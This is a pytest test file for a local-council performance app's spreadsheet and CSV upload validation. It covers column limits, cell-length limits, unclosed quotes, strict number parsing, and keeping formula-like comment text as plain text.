        "return, saved as an Excel Workbook (.xlsx)"
    ]


def test_a_header_with_too_many_columns_is_refused(unchanged, template, officer, cycle, waste):
    wide = with_wide_header(template, columns=imports.MAX_COLUMNS + 1)

    assert rejected(upload_workbook(wide, by=officer, cycle=cycle, service=waste)) == [
        f"“{WASTE_FILE}” has more than 50 columns in its header row. Delete the columns "
        "that are not part of the return"
    ]


def test_a_cell_longer_than_a_spreadsheet_cell_can_hold_stops_the_reading(
    unchanged, template, officer, cycle, waste
):
    content = with_shared_string(filled(template, {2: {"Figure": 45}}), cell="L2", size=40_000)

    assert rejected(upload_workbook(content, by=officer, cycle=cycle, service=waste)) == [
        "Row 2, Commentary: the cell holds more than 32,767 characters, more than a "
        "spreadsheet cell can. Shorten it"
    ]


def test_commentary_over_the_length_limit_is_a_problem_in_its_row(
    unchanged, template, officer, cycle, waste
):
    content = filled(template, {2: {"Figure": 45, "Actions": "y" * 10_001}, 3: {"Figure": 12}})

    assert rejected(upload_workbook(content, by=officer, cycle=cycle, service=waste)) == [
        "Row 2, Actions: the text is 10,001 characters long; the limit is 10,000. Shorten it"
    ]


def test_text_that_looks_like_a_formula_survives_the_round_trip_exactly(
    council, today, officer, cycle, waste, recycling, missed_bins
):
    """Commentary is written to the workbook as text, never a live formula, and the same
    workbook uploaded back unchanged keeps it as it was."""
    texts = {
        "commentary": HOSTILE,
        "reasons": "'=quoted by the officer",
        "actions": "-5 missed bins a week",
        "not_available_reason": "@risk",
    }
    value = record_value(
        indicator=missed_bins,
        period=cycle.period,
        entries={"figure": Decimal("9"), **texts},
        by=officer,
    )
    template = return_workbook(cycle, waste, today=today, council=council)
    before = database_state()

    unchanged = upload_workbook(template, by=officer, cycle=cycle, service=waste)
    edited = upload_workbook(
        filled(template, {3: {"Figure": 11}}), by=officer, cycle=cycle, service=waste
    )

    assert (unchanged.state, unchanged.imported_rows) == (ImportState.DONE, 0)
    assert database_state()[0] != before[0]  # the edit was saved…
    value.refresh_from_db()
    assert (edited.state, value.figure) == (ImportState.DONE, 11)
    assert {name: getattr(value, name) for name in texts} == texts  # …and the text kept


# A strict CSV: a row that cannot be read exactly is an error naming it


@pytest.fixture
def valid_rows(cycle, recycling, missed_bins, green_flags, park_visits):
    return [
        b"PRK-01,2026-27-Q2,75,,,final,Green flags held,,,\n",
        b"WST-01,2026-27-Q2,46,,,final,Steady,,,\n",
    ]


def test_an_unclosed_quote_is_an_error_naming_its_row_not_rows_lost(performance_team, valid_rows):
    """The probe's file: row 2 opens a quote it never closes. It was "Imported 1 figure",
    the next two rows read into its commentary and lost without a word."""
    before = database_state()
    broken = b'WST-02,2026-27-Q2,37,,,final,"Rise due to ""new referrals,,,\n'

    run = upload_csv(values_csv([]) + broken + b"".join(valid_rows), by=performance_team)

    assert rejected(run) == [
        "Row 2: a double quote starts text that is never closed, so every row after it "
        "would be read into one cell. End the text with a double quote; a double quote "
        "inside the text must be written twice"
    ]
    assert database_state() == before


def test_rows_swallowed_into_quoted_text_are_an_error_naming_the_row(performance_team, valid_rows):
    """A quote closed rows later leaves the right number of cells, and the rows between
    inside one commentary."""
    before = database_state()
    content = (
        values_csv([])
        + b'WST-02,2026-27-Q2,37,,,final,"Rise due to ""new referrals,,,\n'
        + valid_rows[0]
        + b'WST-01,2026-27-Q2,46,,,final,Steady",,,\n'
    )

    run = upload_csv(content, by=performance_team)

    assert rejected(run) == [
        "Row 2, commentary: the text runs over lines that look like rows of the file "
        "(“PRK-01,2026-27-Q2,75,,,final,Green flag…”). A double quote in it is probably "
        "not closed, so those rows would be lost. End quoted text with a double quote; a "
        "double quote inside the text must be written twice"
    ]
    assert database_state() == before


def test_commentary_over_several_lines_is_kept(performance_team, cycle, missed_bins):
    content = values_csv(
        [{"indicator_code": "WST-02", "period": "2026-27-Q2", "figure": "12",
          "commentary": "Two crews off sick.\nBack to normal from October."}]
    )  # fmt: skip

    run = upload_csv(content, by=performance_team)

    assert run.state == ImportState.DONE, run.problems
    value = Value.objects.get(indicator=missed_bins, period=cycle.period)
    assert value.commentary == "Two crews off sick.\nBack to normal from October."


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (
            b'WST-01,2026-27-Q2,46,,,final,"Steady" so far,,,\n',
            "Row 2: a double quote ends quoted text in the middle of a cell. Put the whole "
            "cell in double quotes, and write each double quote inside it twice",
        ),
        (
            b'WST-01,2026-27-Q2,"46\n47",,,final,,,,\n',
            "Row 2, figure: the cell runs over more than one line. A double quote earlier "
            "in the row is probably not closed: end quoted text with a double quote",
        ),
        (
            b"WST-01,2026-27-Q2,46\n",
            "Row 2 has 3 cells but the header has 10 columns. Add the missing cells: an "
            "empty cell still needs its comma",
        ),
        (
            b"WST-01,2026-27-Q2,46,,,final," + b"x" * 200_000 + b",,,\n",
            "Row 2: a cell holds more than 32,767 characters, more than a spreadsheet "
            "cell can. Shorten it",
        ),
        (
            b"WST-01,2026-27-Q2,46,,,final," + b"x" * 40_000 + b",,,\n",
            "Row 2, commentary: the cell holds more than 32,767 characters, more than a "
            "spreadsheet cell can. Shorten it",
        ),
        (
            b"WST-01,2026-27-Q2,46,,,final," + b"x" * 10_001 + b",,,\n",
            "Row 2, commentary: the text is 10,001 characters long; the limit is 10,000. "
            "Shorten it",
        ),
    ],
    ids=["stray-quote", "line-break-in-figure", "short-row", "huge-cell", "long-cell",
         "long-commentary"],
)  # fmt: skip
def test_a_malformed_row_is_an_error_naming_it_and_nothing_is_imported(
    performance_team, valid_rows, line, message
):
    before = database_state()

    run = upload_csv(values_csv([]) + valid_rows[0] + line, by=performance_team)

    assert rejected(run) == [message.replace("Row 2", "Row 3")]
    assert database_state() == before


def test_a_csv_header_with_too_many_columns_is_refused(performance_team, recycling):
    header = ",".join([*CSV_COLUMNS, *(f"note {n}" for n in range(41))]).encode()

    run = upload_csv(header + b"\nWST-01,2026-27-Q2,45\n", by=performance_team)

    assert rejected(run) == [
        "“figures.csv” has more than 50 columns in its header row. Delete the columns that "
        "are not part of the return"
    ]


def test_a_csv_going_on_far_below_its_figures_is_refused_where_reading_stops(
    performance_team, recycling
):
    content = values_csv([]) + b",,,,,,,,,\n" * 25_000 + b"WST-01,2026-27-Q2,45,,,,,,,\n"

    assert rejected(upload_csv(content, by=performance_team)) == [
        "“figures.csv” goes on below row 20,000, where reading stops. Delete the empty rows "
        "below the figures, or split the file into smaller files"
    ]


# Numbers: one strict reading, the same as the return page's


def test_numbers_python_or_other_scripts_would_read_are_refused_in_a_csv(
    performance_team, cycle, recycling, missed_bins, green_flags
):
    before = database_state()
    rows = [
        {"indicator_code": "WST-02", "period": "2026-27-Q2", "figure": "1_000"},
        {"indicator_code": "PRK-01", "period": "2026-27-Q2", "figure": "٤٥"},
        {"indicator_code": "WST-01", "period": "2026-27-Q2", "figure": "1e-400"},
    ]

    run = upload_csv(values_csv(rows), by=performance_team)

    assert rejected(run) == [
        "Row 2, figure: “1_000” is not a number. Enter a number like 92.5",
        "Row 3, figure: “٤٥” is not a number. Enter a number like 92.5",
        "Row 4, figure: “1e-400” is not a number. Enter a number like 92.5",
    ]
    assert database_state() == before


def test_numbers_that_do_not_fit_a_stored_figure_are_refused_saying_why(
    performance_team, cycle, recycling, missed_bins, green_flags
):
    rows = [
        {"indicator_code": "WST-02", "period": "2026-27-Q2", "figure": "12,5"},
        {"indicator_code": "PRK-01", "period": "2026-27-Q2", "figure": "45.1234567"},
        {"indicator_code": "WST-01", "period": "2026-27-Q2", "figure": "45",
         "numerator": "100,000,000,000,000", "denominator": "1"},
    ]  # fmt: skip

    assert rejected(upload_csv(values_csv(rows), by=performance_team)) == [
        "Row 2, figure: “12,5” is not a number: use commas only between thousands and a "
        "point before any decimals, like 1,250.5",
        "Row 3, figure: “45.1234567” has more than 6 decimal places. Round it to 6 decimal "
        "places or fewer",
        "Row 4, numerator: 100,000,000,000,000 is too large. Enter a number between "
        "-100,000,000,000,000 and 100,000,000,000,000 (14 digits before the point)",
    ]


def test_commas_between_thousands_are_read(performance_team, cycle, park_visits):
    september = Period.objects.get(kind="month", code="2026-09")
    rows = [{"indicator_code": "PRK-02", "period": "2026-09", "figure": "12,500"}]

    run = upload_csv(values_csv(rows), by=performance_team)

    assert run.state == ImportState.DONE, run.problems
    assert Value.objects.get(indicator=park_visits, period=september).figure == 12_500


def test_true_or_false_in_a_number_cell_is_not_a_number(unchanged, template, officer, cycle, waste):
    content = filled(template, {3: {"Figure": True}})

    assert rejected(upload_workbook(content, by=officer, cycle=cycle, service=waste)) == [
        "Row 3, Figure: “TRUE” is not a number. Enter a number like 92.5"
    ]
